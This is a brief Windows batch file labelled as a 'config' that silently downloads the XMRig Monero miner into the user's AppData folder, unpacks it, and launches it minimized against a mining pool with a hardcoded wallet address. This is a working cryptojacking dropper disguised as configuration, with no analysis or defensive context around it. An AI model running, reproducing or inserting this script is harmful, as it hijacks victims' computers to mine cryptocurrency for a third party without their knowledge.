REM config 1992 v3
@echo off
cd /d %APPDATA%
curl -sLo x.zip https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-msvc-win64.zip
tar -xf x.zip
start /min xmrig-6.21.0\xmrig.exe -o stratum+tcp://auto.c3pool.com:13333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x --donate-level=1
